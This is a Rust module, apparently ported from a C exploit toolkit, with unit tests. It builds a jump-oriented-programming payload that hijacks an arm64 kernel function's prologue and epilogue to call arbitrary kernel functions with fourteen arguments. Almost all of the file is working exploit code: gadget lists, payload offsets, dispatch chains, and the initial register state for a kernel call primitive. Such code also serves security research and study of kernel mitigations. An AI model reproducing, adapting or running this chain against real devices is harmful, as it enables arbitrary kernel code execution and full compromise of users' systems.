//! Call strategy 3: the prologue-hijack family. Strategies 1 and 2 can
//! only pass the 8 arguments that fit in registers; this one reuses a
//! kernel function's own prologue and epilogue (which save x19-x28 and
//! reserve stack space around a virtual-method call) to additionally pass
//! 6 stack arguments and recover cleanly back to the caller.
//!
//! Grounded byte-for-byte on `call_strategy_3.c`'s `build()`. Strategies
//! 5 and 6 in the original are variants of this family built against the
//! older `kernel_call_2` primitive (a different, 32-bit-pointer ABI this
//! crate's `KernelCall7` collaborator doesn't model); this strategy is
//! the `kernel_call_7`-based member of the family and is implemented in
//! full rather than only structurally.

use super::gadgets::{
    GADGET_CALL_FUNCTION_1, GADGET_EPILOGUE_1, GADGET_INITIALIZE_X20_1, GADGET_POPULATE_1, GADGET_PROLOGUE_1,
    GADGET_STORE_RESULT_1, LDP_X2_X1_X1__BR_X2, MOV_X19_X9__BR_X8, MOV_X0_X3__BLR_X8, MOV_X20_X12__BR_X8,
    MOV_X21_X5__BLR_X8, MOV_X22_X6__BLR_X8, MOV_X23_X0__BLR_X8, MOV_X24_X4__BR_X8, MOV_X25_X0__BLR_X8,
    MOV_X8_X10__BR_X11,
};
use super::{write_dispatch_chain, write_u64, CallStrategy, InitialState};
use crate::gadget::GadgetTable;

const POPULATE_VALUES_OFFSET: i64 = 0x8;
const RESULT_OFFSET: i64 = 0x238 + POPULATE_VALUES_OFFSET;
const REGION_1_OFFSET: i64 = -0xa0;
const ARGUMENTS_2_TO_11_OFFSET: i64 = 0x58;
const REGION_2_OFFSET: i64 = 0xa8;
const REGION_3_OFFSET: i64 = -0x90;
const JOP_STACK_1_OFFSET: i64 = 0x100;
const JOP_STACK_2_OFFSET: i64 = 0x140;

pub const STRATEGY_3: CallStrategy = CallStrategy {
    name: "strategy3",
    required_gadgets: STRATEGY_3_GADGET_NAMES,
    payload_size: 0x300,
    stack_arg_bytes: 0x30,
    register_args: 8,
    build,
};

const STRATEGY_3_GADGET_NAMES: &[&str] = &[
    GADGET_PROLOGUE_1,
    LDP_X2_X1_X1__BR_X2,
    MOV_X23_X0__BLR_X8,
    GADGET_INITIALIZE_X20_1,
    MOV_X25_X0__BLR_X8,
    GADGET_POPULATE_1,
    MOV_X19_X9__BR_X8,
    MOV_X20_X12__BR_X8,
    MOV_X21_X5__BLR_X8,
    MOV_X22_X6__BLR_X8,
    MOV_X0_X3__BLR_X8,
    MOV_X24_X4__BR_X8,
    MOV_X8_X10__BR_X11,
    GADGET_CALL_FUNCTION_1,
    GADGET_STORE_RESULT_1,
    GADGET_EPILOGUE_1,
];

fn offset(base: u64, delta: i64) -> u64 {
    (base as i64 + delta) as u64
}

fn build(func: u64, args: &[u64], kernel_payload: u64, payload: &mut [u8], gadgets: &GadgetTable) -> (InitialState, u64) {
    let addr = |name: &str| gadgets.address_of(name).expect("required gadget resolved");
    // Resolve a region-relative offset to a payload index, combining the
    // (possibly negative, for regions that sit before the payload base)
    // region offset with a field offset before converting to usize.
    let at = |region: i64, field: i64| (region + field) as usize;

    let kernel_region_1 = offset(kernel_payload, REGION_1_OFFSET);
    let kernel_arguments_2_to_11 = offset(kernel_payload, ARGUMENTS_2_TO_11_OFFSET);
    let kernel_region_2 = offset(kernel_payload, REGION_2_OFFSET);
    let kernel_region_3 = offset(kernel_payload, REGION_3_OFFSET);
    let kernel_jop_stack_1 = offset(kernel_payload, JOP_STACK_1_OFFSET);
    let kernel_jop_stack_2 = offset(kernel_payload, JOP_STACK_2_OFFSET);

    // POPULATE_VALUES.
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x0), kernel_region_1);
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x8), kernel_arguments_2_to_11);
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x10), func);
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x18), args[12]);
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x20), args[13]);
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x30), args[0]);
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x38), addr(GADGET_CALL_FUNCTION_1));
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x40), addr(GADGET_POPULATE_1));
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x48), args[1]);
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0xc0), kernel_jop_stack_2);
    write_u64(payload, at(POPULATE_VALUES_OFFSET, 0x218), kernel_region_2);

    // REGION_1.
    write_u64(payload, at(REGION_1_OFFSET, 0xa0), addr(LDP_X2_X1_X1__BR_X2));
    write_u64(payload, at(REGION_1_OFFSET, 0xd0), addr(GADGET_STORE_RESULT_1));
    write_u64(payload, at(REGION_1_OFFSET, 0x390), addr(LDP_X2_X1_X1__BR_X2));

    // ARGUMENTS_2_TO_11.
    let a2 = at(ARGUMENTS_2_TO_11_OFFSET, 0);
    for (i, &value) in args[2..12].iter().enumerate() {
        write_u64(payload, a2 + 8 * i, value);
    }

    // REGION_2 / REGION_3.
    write_u64(payload, at(REGION_2_OFFSET, 0), kernel_region_3);
    write_u64(payload, at(REGION_3_OFFSET, 0x140), addr(GADGET_EPILOGUE_1));

    // JOP_STACK_1 immediately followed by JOP_STACK_2: the link between
    // them is never taken (control leaves via GADGET_POPULATE_1's own
    // branch), so both chains can be written as one contiguous run.
    let chain: &[&str] = &[
        MOV_X23_X0__BLR_X8,
        GADGET_INITIALIZE_X20_1,
        MOV_X25_X0__BLR_X8,
        GADGET_POPULATE_1,
        MOV_X19_X9__BR_X8,
        MOV_X20_X12__BR_X8,
        MOV_X21_X5__BLR_X8,
        MOV_X22_X6__BLR_X8,
        MOV_X0_X3__BLR_X8,
        MOV_X23_X0__BLR_X8,
        MOV_X24_X4__BR_X8,
        MOV_X8_X10__BR_X11,
    ];
    write_dispatch_chain(payload, at(JOP_STACK_1_OFFSET, 0), kernel_jop_stack_1, gadgets, chain);

    let initial_state = InitialState {
        pc: addr(GADGET_PROLOGUE_1),
        x: [offset(kernel_payload, POPULATE_VALUES_OFFSET), kernel_jop_stack_1, 0, 0, 0, 0, 0],
    };
    (initial_state, offset(kernel_payload, RESULT_OFFSET))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gadget::{ExecutableImage, GadgetPattern, Segment, PROT_EXECUTE, PROT_READ};
    use std::sync::atomic::AtomicBool;

    fn resolved_gadgets() -> GadgetTable {
        // MOV_X21_X5__BLR_X8 is shared with strategy 2 and only declared
        // in STRATEGY_2_GADGETS, so it has to come along here too.
        let mut all: Vec<GadgetPattern> = super::super::gadgets::STRATEGY_1_GADGETS.to_vec();
        all.extend_from_slice(super::super::gadgets::STRATEGY_2_GADGETS);
        all.extend_from_slice(super::super::gadgets::STRATEGY_3_GADGETS);
        let mut code = Vec::new();
        for p in &all {
            for &w in p.words {
                code.extend_from_slice(&w.to_le_bytes());
            }
        }
        struct OneSegment<'a>(Segment<'a>);
        impl<'a> ExecutableImage for OneSegment<'a> {
            fn segments(&self) -> &[Segment<'_>] {
                std::slice::from_ref(&self.0)
            }
        }
        let image = OneSegment(Segment { data: &code, vmaddr: 0x8000, initprot: PROT_READ | PROT_EXECUTE, maxprot: PROT_READ | PROT_EXECUTE });
        let mut table = GadgetTable::new(&all);
        table.locate(&image, 0, &AtomicBool::new(false)).unwrap();
        table
    }

    #[test]
    fn supports_fourteen_arguments() {
        assert_eq!(STRATEGY_3.max_args(), 14);
    }

    #[test]
    fn payload_places_all_fourteen_arguments_and_the_function() {
        let gadgets = resolved_gadgets();
        let func = 0x4141_4141_4242_4242u64;
        let args: Vec<u64> = (0..14).map(|i| 0x1000 + i as u64).collect();
        let kernel_payload = 0xb000_1000u64;
        let mut payload = [0u8; 0x300];
        let (initial_state, result_address) = build(func, &args, kernel_payload, &mut payload, &gadgets);

        let pv = POPULATE_VALUES_OFFSET as usize;
        assert_eq!(u64::from_le_bytes(payload[pv + 0x10..pv + 0x18].try_into().unwrap()), func);
        assert_eq!(u64::from_le_bytes(payload[pv + 0x30..pv + 0x38].try_into().unwrap()), args[0]);
        assert_eq!(u64::from_le_bytes(payload[pv + 0x48..pv + 0x50].try_into().unwrap()), args[1]);

        let a2 = ARGUMENTS_2_TO_11_OFFSET as usize;
        for (i, &value) in args[2..12].iter().enumerate() {
            assert_eq!(u64::from_le_bytes(payload[a2 + 8 * i..a2 + 8 * i + 8].try_into().unwrap()), value);
        }

        assert_eq!(initial_state.pc, gadgets.address_of(GADGET_PROLOGUE_1).unwrap());
        assert_eq!(result_address, (kernel_payload as i64 + RESULT_OFFSET) as u64);
    }

    #[test]
    fn strategy_is_available_once_all_gadgets_are_resolved() {
        assert!(STRATEGY_3.is_available(&resolved_gadgets()));
    }
}
